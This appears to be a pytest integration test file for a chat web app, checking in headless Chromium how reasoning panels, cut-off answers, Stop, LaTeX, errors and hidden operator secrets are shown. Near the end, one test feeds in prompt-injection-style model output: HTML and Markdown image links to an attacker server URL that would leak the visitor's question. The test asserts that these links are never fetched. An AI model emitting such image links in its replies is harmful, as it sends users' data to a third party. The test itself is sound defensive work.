"""The Space in a real headless Chromium: what a visitor sees, case by case (issues 14.1–14.5,
15.2, 15.6), with a screenshot of each kept as a test artefact (``$TOOLKIT_SCREENSHOT_DIR`` or
pytest's temporary directory; the paths are printed).

Backends: the loopback OpenAI-compatible server of :mod:`tests.helpers.space_backends` (which
holds the stream at a gate so the test can look at it mid-way), the real SmolLM2-135M through
the local transformers backend, and the real SmolLM2 behind a real ``transformers serve``.
"""

from __future__ import annotations

import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tests.helpers.browser import (
    INPUT,
    STOP_BUTTON,
    THOUGHT,
    THOUGHT_DURATION,
    THOUGHT_SPINNER,
    THOUGHT_TITLE,
    answer_text,
    ask,
    chromium_browser,
    screenshot,
    screenshot_dir,
    served,
    wait_for_answer,
    wait_idle,
    wait_no_spinner,
    wait_reply,
    wait_thought_settled,
)
from tests.helpers.servers import FaultPlan, OpenAIServer
from tests.helpers.space_backends import AttackerServer, LoopbackChatServer
from toolkit.chat import SpaceSettings, build_demo
from toolkit.chat.stream import NOTICE_PREFIX

pytestmark = pytest.mark.integration

NOTICE = NOTICE_PREFIX.strip()


@contextmanager
def space_for(server: LoopbackChatServer, **settings: object) -> Iterator[str]:
    """The chat app for a loopback server, served; yields its URL."""
    chat = SpaceSettings(backend="openai", base_url=server.url, **settings)
    with served(build_demo(chat)) as url:
        yield url


@pytest.fixture(scope="module")
def browser():
    with chromium_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def shots(tmp_path_factory):
    return screenshot_dir(tmp_path_factory)


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.requested = []  # every URL the page asked for
    page.on("request", lambda request: page.requested.append(request.url))
    yield page
    context.close()


def _outside_panels(page) -> str:
    """The text of every assistant bubble without its thought panels."""
    return page.evaluate(
        """() => [...document.querySelectorAll('#chatbot [data-testid="bot"]')].map((bot) => {
            const clone = bot.cloneNode(true);
            clone.querySelectorAll('.thought-group').forEach((t) => t.remove());
            return clone.innerText; }).join('\\n')"""
    )


def test_streamed_reasoning_shows_in_a_thinking_panel_then_the_answer(page, shots):
    gate = threading.Event()
    reasoning = ["Half of 48 ", "is 24, ", "and 48 + 24 = 72."]
    answer = ["Natalia sold ", "$48 + 24 = ", "\\boxed{72}$ clips."]
    with LoopbackChatServer(reasoning, answer, delay_s=0.05, gate=gate) as server:
        settings = SpaceSettings(backend="openai", base_url=server.url, max_new_tokens=128)
        with served(build_demo(settings)) as url:
            page.goto(url)
            ask(page, "How many clips did Natalia sell in April and May?")

            # While the reasoning streams (the answer is held back), the panel is pending.
            live = page.locator(THOUGHT).get_by_text("and 48 + 24 = 72.")
            live.wait_for(timeout=30_000)
            wait_thought_settled(page)
            assert live.is_visible()
            assert page.locator(THOUGHT_TITLE).first.inner_text().strip() == "Thinking"
            assert page.locator(THOUGHT_SPINNER).count() == 1
            pending_shot = screenshot(page, shots / "space_thinking_pending.png")

            gate.set()
            wait_for_answer(page, "Natalia sold")
            wait_idle(page)
            # Done: the panel shows its duration, and the answer (with KaTeX) sits apart from it.
            duration = page.locator(THOUGHT_DURATION).first.inner_text()
            assert re.fullmatch(r"\(\d+(\.\d+)?s\)", duration.strip()), duration
            assert page.locator(THOUGHT_SPINNER).count() == 0
            answer = answer_text(page)
            assert answer.startswith("Natalia sold") and "Half of 48" not in answer
            assert page.locator("#chatbot .katex").count() >= 1
            done_shot = screenshot(page, shots / "space_thinking_done.png")

            # Second turn: the model is not sent the earlier thinking.
            before = ask(page, "And in June, twice as many as May?")
            wait_reply(page, before)
            page.wait_for_function(
                "() => document.querySelectorAll('#chatbot .thought-group').length >= 2"
            )
            second = server.requests[1]["messages"]
    assert "Half of 48" not in str(second)
    assert second[-2] == {
        "role": "assistant",
        "content": "Natalia sold $48 + 24 = \\boxed{72}$ clips.",
    }
    print(f"screenshots: {pending_shot} {done_shot}")


def test_prefilled_template_streams_as_pending_thinking_then_answers(page, shots):
    """Issue 14.1: an R1 distill behind a server without a reasoning parser: the reasoning
    arrives as plain content, and is shown as thinking, not as an answer, until </think>."""
    gate = threading.Event()
    reasoning = ["Six sevens: ", "7, 14, 21, ", "28, 35, 42."]
    with (
        LoopbackChatServer(
            reasoning, ["It is **42**."], prefilled=True, model="my-model", gate=gate
        ) as server,
        space_for(server) as url,
    ):
        page.goto(url)
        ask(page, "What is 6 times 7?")
        page.locator(THOUGHT).get_by_text("28, 35, 42.").wait_for()
        assert page.locator(THOUGHT_SPINNER).count() == 1
        assert "28, 35" not in _outside_panels(page)  # not shown as an answer
        shot = screenshot(page, shots / "space_prefilled_pending.png")
        gate.set()
        wait_for_answer(page, "It is")
        wait_idle(page)
        assert page.locator(THOUGHT_SPINNER).count() == 0
        assert answer_text(page) == "It is 42."
        assert page.locator("#chatbot [data-testid='bot'] strong").count() == 1  # Markdown
        done = screenshot(page, shots / "space_prefilled_done.png")
    print(f"screenshots: {shot} {done}")


def test_thinking_cut_by_the_token_limit_is_shown_unfinished_with_a_notice(page, shots):
    """Issues 14.1/14.2: no answer made of reasoning, a notice, no spinner."""
    reasoning = ["Let me think ", "about this ", "very carefully"]
    with (
        LoopbackChatServer(
            reasoning,
            [],
            prefilled=True,
            finish_reason="length",
            model="deepseek-r1-distill-qwen-1.5b",
        ) as server,
        space_for(server) as url,
    ):
        page.goto(url)
        before = ask(page, "Prove it.")
        wait_reply(page, before)
        wait_for_answer(page, "token limit")
        assert page.locator(THOUGHT_SPINNER).count() == 0
        assert "Thinking (unfinished)" in page.locator(THOUGHT_TITLE).first.inner_text()
        wait_thought_settled(page)
        assert page.locator(THOUGHT).get_by_text("very carefully").is_visible()  # kept, readable
        outside = _outside_panels(page)
        assert "very carefully" not in outside and outside.strip().startswith(NOTICE)
        shot = screenshot(page, shots / "space_cut_by_token_limit.png")
    print(f"screenshot: {shot}")


def test_answer_cut_or_connection_dropped_gets_a_visible_notice(page, shots):
    """Issue 14.2: neither shows as a finished answer."""
    with (
        LoopbackChatServer(["ok"], ["The answer ", "is"], finish_reason="length") as server,
        space_for(server) as url,
    ):
        page.goto(url)
        wait_reply(page, ask(page, "Answer?"))
        wait_for_answer(page, "cut off at the token limit")
        cut = screenshot(page, shots / "space_answer_cut.png")
    with (
        LoopbackChatServer(["Half of 48 "], ["is 24, ", "and so"], drop_after=2) as server,
        space_for(server) as url,
    ):
        page.goto(url)
        wait_reply(page, ask(page, "Answer?"))
        wait_for_answer(page, "connection to the model was lost")
        assert page.locator(THOUGHT_SPINNER).count() == 0
        dropped = screenshot(page, shots / "space_connection_dropped.png")
    print(f"screenshots: {cut} {dropped}")


def test_stop_ends_the_stream_and_the_spinner_at_once(page, shots):
    """Issue 14.3: Stop settles the view at once and the server sees the stream closed."""
    reasoning = [f"step {i}. " for i in range(200)]
    with LoopbackChatServer(reasoning, ["never"], delay_s=0.1) as server, space_for(server) as url:
        page.goto(url)
        ask(page, "Count slowly.")
        page.locator(THOUGHT).get_by_text("step 3.").wait_for()
        assert page.locator(THOUGHT_SPINNER).count() == 1
        page.locator(STOP_BUTTON).click()
        clicked = time.monotonic()
        wait_no_spinner(page, timeout_ms=5_000)
        settled = time.monotonic() - clicked
        wait_for_answer(page, "Stopped.", timeout_ms=5_000)
        wait_idle(page, timeout_ms=10_000)
        assert server.disconnected.wait(10), "the HTTP stream was not closed"
        assert "Thinking (stopped)" in page.locator(THOUGHT_TITLE).first.inner_text()
        assert page.locator(INPUT).is_editable()
        shot = screenshot(page, shots / "space_stopped.png")
        time.sleep(1.0)  # nothing comes back afterwards
        assert page.locator(THOUGHT_SPINNER).count() == 0
        assert "step 199" not in page.content()
    assert settled < 3.0, settled
    print(f"screenshot: {shot} (settled {settled:.2f}s after Stop)")


def test_defaults_latex_and_examples(page, shots):
    """Issue 14.4: no system prompt, 8192 tokens, a bare \\boxed{} rendered, examples without
    raw $…$ (and the one sent renders its LaTeX in the chat)."""
    answer = ["So the answer is \\boxed{\\frac{7}{2}}."]
    with LoopbackChatServer(["x = 4"], answer) as server, space_for(server) as url:
        page.goto(url)
        page.locator("button.example").first.wait_for()
        cards = page.locator("button.example").all_inner_texts()
        assert any("Solve for x" in card for card in cards), cards
        assert not any("$" in card for card in cards), cards
        examples = screenshot(page, shots / "space_examples.png")
        page.get_by_text("Solve for x: 2x + 3 = 11.").click()
        wait_for_answer(page, "So the answer is")
        wait_idle(page)
        assert server.requests[0]["messages"] == [
            {"role": "user", "content": "Solve for $x$: $2x + 3 = 11$."}
        ]
        assert server.requests[0]["max_tokens"] == 8192
        user = page.locator('#chatbot [data-testid="user"]').first
        assert user.locator(".katex").count() >= 2 and "$" not in user.inner_text()
        answer_html = page.locator('#chatbot [data-testid="bot"]').last.inner_html()
        assert "katex" in answer_html
        raw = page.evaluate(  # the answer's text outside rendered math
            """() => { const bots = document.querySelectorAll('#chatbot [data-testid="bot"]');
                       const clone = bots[bots.length - 1].cloneNode(true);
                       clone.querySelectorAll('.katex').forEach((k) => k.remove());
                       return clone.innerText; }"""
        )
        assert "\\boxed" not in raw and "So the answer is" in raw, raw
        page.get_by_role("button", name="Settings ▼").click()
        assert page.locator("#system-prompt textarea").input_value() == ""
        assert page.locator("#max-new-tokens input[type=number]").input_value() == "8192"
        shot = screenshot(page, shots / "space_latex_defaults.png")
    print(f"screenshots: {examples} {shot}")


def test_visitors_see_the_model_name_and_no_operator_details(page, shots):
    """Issue 14.5 / 15.2: the title is the served model's name; the URL, the key and the raw
    server message stay out of the page even when the server echoes the request headers."""
    key = "sk-space-owner-0123456789abcdef"
    plan = FaultPlan(rate_500=1.0, faults_per_request=100)
    with OpenAIServer(
        model="DeepSeek-R1-Distill-Qwen-7B", api_key=key, echo_headers=True, faults=plan
    ) as server:
        settings = SpaceSettings(backend="openai", base_url=server.url + "/v1", api_key=key)
        with served(build_demo(settings)) as url:
            page.goto(url)
            assert page.locator("#header h1").inner_text().strip() == "DeepSeek-R1-Distill-Qwen-7B"
            assert page.title() == "DeepSeek-R1-Distill-Qwen-7B"
            wait_reply(page, ask(page, "Hello?"))
            wait_for_answer(page, NOTICE)
            content = page.content()
            shot = screenshot(page, shots / "space_server_error.png")
    assert server.stats["500"] >= 1  # the error really came from the server
    for secret in (key, server.url, "Request headers", "The server had an error", "Bearer"):
        assert secret not in content, secret
    print(f"screenshot: {shot}")


def test_backend_down_shows_a_friendly_message(page, shots):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    settings = SpaceSettings(backend="openai", base_url=f"http://127.0.0.1:{port}/v1", model="m")
    with served(build_demo(settings)) as url:
        page.goto(url)
        before = ask(page, "Hello?")
        wait_reply(page, before)
        wait_for_answer(page, "is not reachable")
        text = answer_text(page)
        assert text.startswith(NOTICE)
        assert "Traceback" not in page.content() and str(port) not in page.content()
        screenshot(page, shots / "space_backend_down.png")


def test_model_html_and_images_are_shown_as_text_and_never_fetched(page, shots):
    """Issue 15.6: a prompt injection's <img> / Markdown image must not reach the attacker."""
    with AttackerServer() as attacker:
        leak = f"{attacker.url}/leak.png?q=the-visitors-question"
        hostile = [
            "Sure! <b>bold</b> ",
            f'<img src="{leak}&html=1"> ',
            f"![chart]({leak}&md=1) and ![ref][img]\n\n[img]: {leak}&ref=1\n\n",
            "Done: $a<b$.",
        ]
        with (
            LoopbackChatServer(["Plan the injection."], hostile) as server,
            space_for(server) as url,
        ):
            page.goto(url)
            wait_reply(page, ask(page, "Show me a chart."))
            wait_for_answer(page, "Done:")
            time.sleep(1.0)  # give a fetch every chance to happen
            bot = page.locator('#chatbot [data-testid="bot"]').last
            assert bot.locator("img").count() == 0 and bot.locator("b").count() == 0
            text = answer_text(page)
            assert "<b>bold</b>" in text and "<img src=" in text
            assert "(image not shown: chart)" in text
            assert bot.locator(".katex").count() >= 1  # LaTeX still renders
            shot = screenshot(page, shots / "space_hostile_output.png")
        assert attacker.hits == []
    assert not [u for u in page.requested if attacker.url in u], page.requested
    print(f"screenshot: {shot}")


def test_real_smollm2_model_answers_through_transformers(page, shots, smollm2_dir):
    settings = SpaceSettings(
        backend="transformers",
        model=str(smollm2_dir),
        system_prompt="You are a helpful assistant. Answer in one short sentence.",
        temperature=0.0,
        max_new_tokens=24,
    )
    demo = build_demo(settings)
    with served(demo) as url:
        page.goto(url)
        assert str(smollm2_dir.parent) not in page.content()  # no server path on the page
        before = ask(page, "What is the capital of France?")
        wait_reply(page, before, timeout_ms=120_000)
        answer = answer_text(page)
        shot = screenshot(page, shots / "space_smollm2.png")
    # SmolLM2 does not think: an answer, no thinking panel, no error notice.
    assert answer and not answer.startswith(NOTICE), answer
    assert page.locator(THOUGHT).count() == 0
    assert "Paris" in answer, answer
    print(f"screenshot: {shot}")


def test_real_transformers_serve_title_and_possible_prefill(page, shots, smollm2_dir):
    """A real `transformers serve` (its template is unknown to the Space): the title is the
    model's name, not the server's path; SmolLM2 writes no marker, so its streamed output is
    pending thinking until the turn ends, then the answer — and cut by the token limit it is
    never kept as an answer."""
    if shutil.which("transformers") is None:
        pytest.skip("the `transformers` CLI is not installed (pip install transformers[serving])")
    from toolkit.models import serve_transformers

    with serve_transformers(smollm2_dir, ready_timeout=180) as base_url:
        settings = SpaceSettings(
            backend="openai",
            base_url=base_url,
            model=str(smollm2_dir),
            temperature=0.0,
            max_new_tokens=40,
        )
        with served(build_demo(settings)) as url:
            page.goto(url)
            assert page.locator("#header h1").inner_text().strip() == smollm2_dir.name
            assert str(smollm2_dir) not in page.content() and base_url not in page.content()
            wait_reply(page, ask(page, "What is the capital of France?"), timeout_ms=120_000)
            assert page.locator(THOUGHT_SPINNER).count() == 0
            answered = answer_text(page)
            assert "Paris" in answered and page.locator(THOUGHT).count() == 0, answered
            shot = screenshot(page, shots / "space_transformers_serve.png")
        cut = SpaceSettings(
            backend="openai",
            base_url=base_url,
            model=str(smollm2_dir),
            temperature=0.0,
            max_new_tokens=3,
        )
        with served(build_demo(cut)) as url:
            page.goto(url)
            wait_reply(page, ask(page, "Write a long poem about the sea."), timeout_ms=120_000)
            wait_for_answer(page, "token limit")
            assert _outside_panels(page).strip().startswith(NOTICE)  # no answer made of it
            cut_shot = screenshot(page, shots / "space_transformers_serve_cut.png")
    print(f"screenshots: {shot} {cut_shot}")
